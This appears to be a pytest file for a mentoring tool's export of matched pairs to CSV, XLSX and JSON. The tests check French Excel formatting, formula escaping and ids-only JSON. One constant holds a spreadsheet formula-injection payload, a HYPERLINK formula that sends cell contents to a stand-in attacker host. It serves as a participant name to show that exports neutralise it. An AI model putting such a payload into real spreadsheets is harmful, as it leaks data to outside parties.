"""Matching exports read back: CSV for French Excel and XLSX with names, JSON with ids only."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import msgspec
import polars as pl
import pytest

from recomentor import fields as F
from recomentor.errors import InvalidInputError
from recomentor.matching.cohort import MatchedPair
from recomentor.matching.export import (
    escape_cell,
    export_format,
    matching_csv,
    matching_json,
    matching_xlsx,
    people_in,
    write_matching,
)
from recomentor.matching.service import Matching, create_matching
from recomentor.ranking.explain import Explanation
from recomentor.ranking.scorers import HeuristicScorer
from recomentor.store import Store
from recomentor.store.participants import Contact, read_contacts
from tests.fakes import build_roster, person

BOM = b"\xef\xbb\xbf"
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _named(record: dict[str, Any], name: str | None, email: str | None) -> dict[str, Any]:
    return {**record, F.NAME: name, F.EMAIL: email}


@pytest.fixture
def matching(sqlite_store: Store) -> Matching:
    """J1 mentors S1; S2 shares no language with anyone and stays unpaired."""
    roster = build_roster(
        sqlite_store,
        [
            _named(person("J1", years=1, skills="@Instagram stories"), HOSTILE_NAME, "j1@ex.fr"),
            _named(
                person("S1", role=F.MENTEE, years=25, goals="Instagram", department="Finance"),
                "Zoé Dupré-Lefèvre",
                "zoe@ex.fr",
            ),
            _named(
                person("S2", role=F.MENTEE, years=20, goals="TikTok", languages="de"),
                "Björn Weiß",
                None,
            ),
        ],
    )
    return create_matching(sqlite_store, roster, HeuristicScorer(), lang="fr")


@pytest.fixture
def people(sqlite_store: Store, matching: Matching) -> dict[str, Contact]:
    with sqlite_store.session() as session:
        return read_contacts(session, people_in(matching))


def _sections(data: bytes) -> tuple[list[list[str]], list[list[str]]]:
    """The CSV's pairs and its unpaired section (title row first), split at the blank row."""
    assert data.startswith(BOM)
    rows = list(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8")), delimiter=";"))
    blank = rows.index([])
    return rows[:blank], rows[blank + 1 :]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert escape_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "ok", "a=b", "Zoé", " =1+1", "'=already"])
def test_other_text_is_left_as_is(text: str) -> None:
    assert escape_cell(text) == text


def test_read_contacts_returns_stored_people_only(sqlite_store: Store, matching: Matching) -> None:
    with sqlite_store.session() as session:
        found = read_contacts(session, ["S1", "S2", "NOBODY", "S1"])
    assert found == {
        "S1": Contact("Zoé Dupré-Lefèvre", "zoe@ex.fr", "Finance"),
        "S2": Contact("Björn Weiß", None, "Marketing"),
    }


def test_csv_is_semicolon_separated_utf8_with_bom_names_and_escaped_formulas(
    matching: Matching, people: dict[str, Contact]
) -> None:
    pairs, unpaired = _sections(matching_csv(matching, people, lang="fr"))
    header, *rows = pairs
    assert header == [
        "Matricule mentor", "Mentor", "E-mail mentor", "Direction mentor",
        "Matricule mentoré", "Mentoré", "E-mail mentoré", "Direction mentoré",
        "Score", "Correspondance", "Pourquoi", "Expressions rapprochées",
    ]  # fmt: skip
    (row,) = rows
    assert row[:8] == [
        "J1", "'" + HOSTILE_NAME, "j1@ex.fr", "Marketing",
        "S1", "Zoé Dupré-Lefèvre", "zoe@ex.fr", "Finance",
    ]  # fmt: skip
    (pair,) = matching.pairs
    assert row[8] == f"{pair.score:.4f}".replace(".", ",")  # French Excel reads decimal commas
    assert row[9] in {"Très bonne correspondance", "Bonne correspondance"} | {
        "Correspondance moyenne",
        "Correspondance faible",
    }
    assert row[10] == pair.explanation.summary and row[10].startswith(row[9] + "\u00a0:")
    assert row[11].startswith("'@Instagram stories ↔ Instagram")  # a phrase is escaped too
    title, unpaired_header, *unpaired_rows = unpaired
    assert title == ["Sans binôme"]
    assert unpaired_header == ["Matricule", "Nom", "E-mail", "Direction", "Motif", "Détail"]
    assert unpaired_rows == [
        ["S2", "Björn Weiß", "", "Marketing", "no_eligible_mentor", matching.unpaired[0].detail]
    ]
    assert "aucune langue commune" in unpaired_rows[0][5]


def test_csv_in_english_keeps_the_decimal_point(
    matching: Matching, people: dict[str, Contact]
) -> None:
    pairs, unpaired = _sections(matching_csv(matching, people, lang="en"))
    assert pairs[0][:3] == ["Mentor ID", "Mentor", "Mentor e-mail"]
    assert pairs[1][8] == f"{matching.pairs[0].score:.4f}"
    assert unpaired[0] == ["Unpaired"]


def test_someone_missing_from_the_mapping_gets_empty_cells(matching: Matching) -> None:
    # A negative score (a rule penalty) stays a number, and an unknown id an id.
    ghost = MatchedPair("+GHOST", "S1", -0.25, "weak", Explanation("-x", factors=[], matches=[]))
    tampered = msgspec.structs.replace(matching, pairs=[ghost], unpaired=[])
    pairs, unpaired = _sections(matching_csv(tampered, {}, lang="en"))
    assert pairs[1] == [
        "'+GHOST", "", "", "", "S1", "", "", "", "-0.2500", "Weak match", "'-x", "",
    ]  # fmt: skip
    assert unpaired == [["Unpaired"], ["ID", "Name", "E-mail", "Department", "Reason", "Detail"]]


def _read_sheets(data: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet's rows, header first: openpyxl where installed, else polars with fastexcel."""
    try:
        import openpyxl
    except ImportError:
        # Header read as column names, so each column's type comes from its data cells.
        sheets = pl.read_excel(io.BytesIO(data), sheet_id=0, engine="calamine")
        return {
            name: [frame.columns, *(list(row) for row in frame.iter_rows())]
            for name, frame in sheets.items()
        }
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


def test_xlsx_has_the_same_columns_on_two_sheets(
    matching: Matching, people: dict[str, Contact]
) -> None:
    data = matching_xlsx(matching, people, lang="fr")
    assert data.startswith(b"PK")  # a zip: an Office Open XML workbook
    sheets = _read_sheets(data)
    assert list(sheets) == ["Binômes", "Sans binôme"]
    csv_pairs, csv_unpaired = _sections(matching_csv(matching, people, lang="fr"))
    header, row = sheets["Binômes"]
    assert header == csv_pairs[0]
    assert row[1] == "'" + HOSTILE_NAME  # a string cell, escaped as in the CSV: never a formula
    assert row[8] == pytest.approx(matching.pairs[0].score)  # a number Excel can sort
    texts = [cell for index, cell in enumerate(row) if index != 8]
    assert texts == [cell for index, cell in enumerate(csv_pairs[1]) if index != 8]
    unpaired_header, unpaired_row = sheets["Sans binôme"]
    assert unpaired_header == csv_unpaired[1]
    assert [cell or "" for cell in unpaired_row] == csv_unpaired[2]


def test_xlsx_never_holds_a_formula(matching: Matching, people: dict[str, Contact]) -> None:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(matching_xlsx(matching, people))) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(name) for name in sheets)


def test_json_stays_ids_only(matching: Matching, people: dict[str, Contact]) -> None:
    text = matching_json(matching)
    assert json.loads(text) == msgspec.to_builtins(matching)
    assert all(contact.name not in text for contact in people.values() if contact.name)
    assert "@ex.fr" not in text


def test_write_matching_picks_the_format_from_the_extension(
    matching: Matching, people: dict[str, Contact], tmp_path: Path
) -> None:
    as_json = write_matching(matching, tmp_path / "pairs.json", people)
    assert json.loads(as_json.read_text())["id"] == matching.id
    as_csv = write_matching(matching, tmp_path / "pairs.CSV", people, lang="fr")
    assert as_csv.read_bytes() == matching_csv(matching, people, lang="fr")
    as_xlsx = write_matching(matching, tmp_path / "pairs.xlsx", people)
    assert list(_read_sheets(as_xlsx.read_bytes())) == ["Pairs", "Unpaired"]
    for name in ("pairs.txt", "pairs", "pairs.xls"):
        with pytest.raises(InvalidInputError, match=r"must end in \.csv, \.xlsx, \.json"):
            export_format(name)
    assert not (tmp_path / "pairs.txt").exists()
